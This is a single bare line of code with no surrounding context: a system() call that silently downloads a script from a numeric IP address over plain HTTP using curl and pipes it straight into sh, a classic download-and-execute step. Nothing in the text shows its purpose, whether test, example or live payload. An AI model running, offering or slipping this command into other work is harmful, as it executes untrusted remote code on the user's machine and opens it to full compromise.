system("curl -s http://198.51.100.7/a | sh")
